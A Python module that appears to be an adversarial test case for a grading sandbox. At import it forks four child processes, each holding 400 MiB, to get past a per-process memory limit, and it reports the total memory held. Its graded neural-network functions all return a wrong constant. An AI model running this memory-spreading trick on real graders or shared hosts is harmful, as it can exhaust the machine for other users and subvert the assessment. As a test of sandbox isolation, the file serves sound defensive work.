"""Resource abuse: spread memory over processes to get past a per-process limit.

Attack: at import the module forks 4 children; each allocates and touches 400
MiB (well under a 1 GiB per-process address-space limit) and holds it until
every child has reported in or died. Each time one reports in, the parent
prints ``HELD <bytes>``: the memory the sandbox held at once, so far (the
blocks of the children that reported and are still alive: the kernel may kill
an earlier one to make room for a later one). With 256 processes allowed, the
same trick holds about 100 GiB, enough to push a grading host into the OOM
killer. Functions return a wrong constant (12345.678).

Success would look like: ``HELD`` larger than the assignment's memory limit
(the sandbox's memory is not bounded as a whole), or any points.
Backends: bwrap, docker
Unisolated: not promised; the subprocess backend limits only each process's address space
"""

import os
import select
import time

import numpy as np

W = 12345.678
CHILDREN = 4
BLOCK = 400 * 2**20

ready_r, ready_w = os.pipe()
kids = []
for i in range(CHILDREN):
    pid = os.fork()
    if pid == 0:
        try:
            block = np.ones(BLOCK // 8)  # touched: resident, not just reserved
            os.write(ready_w, bytes([i]))
            time.sleep(60)  # held until the parent has heard from every child (or seen it die)
        finally:
            os._exit(0)
    kids.append(pid)
os.close(ready_w)
dead = set()


def alive(k):
    if k in dead:
        return False
    try:
        if os.waitpid(kids[k], os.WNOHANG) == (0, 0):
            return True
    except ChildProcessError:
        pass
    dead.add(k)
    return False


# wait until every child has reported or died (killed to make room for another): how long that
# takes depends only on how fast the machine hands out memory, never on a fixed sleep
reported, held, deadline = set(), 0, time.monotonic() + 30
while time.monotonic() < deadline and any(k not in reported and alive(k) for k in range(CHILDREN)):
    if not select.select([ready_r], [], [], 0.05)[0]:
        continue
    data = os.read(ready_r, 1)
    if not data:
        break
    reported.add(data[0])
    # at once: only children that reported and still live hold their block (the kernel may
    # have killed an earlier one to make room for this one)
    held = max(held, BLOCK * sum(1 for k in reported if alive(k)))
    print(f"HELD {held}", flush=True)
print(f"HELD {held}")
for pid in kids:
    try:
        os.kill(pid, 9)
        os.waitpid(pid, 0)
    except OSError:
        pass


def _w(shape):
    return np.full(shape, W)


def sigmoid(z):
    return _w(np.shape(z))


def sigmoid_grad(z):
    return _w(np.shape(z))


def tanh(z):
    return _w(np.shape(z))


def tanh_grad(z):
    return _w(np.shape(z))


def relu(z):
    return _w(np.shape(z))


def relu_grad(z):
    return _w(np.shape(z))


def leaky_relu(z, alpha=0.01):
    return _w(np.shape(z))


def leaky_relu_grad(z, alpha=0.01):
    return _w(np.shape(z))


def neuron(x, w, b, activation="sigmoid"):
    return _w(np.shape(x)[:-1])


def affine_forward(x, w, b):
    return _w((np.shape(x)[0], np.shape(w)[1])), None


def mlp_forward(x, params, activation="relu"):
    return _w((np.shape(x)[0], np.shape(params[-1][0])[1]))
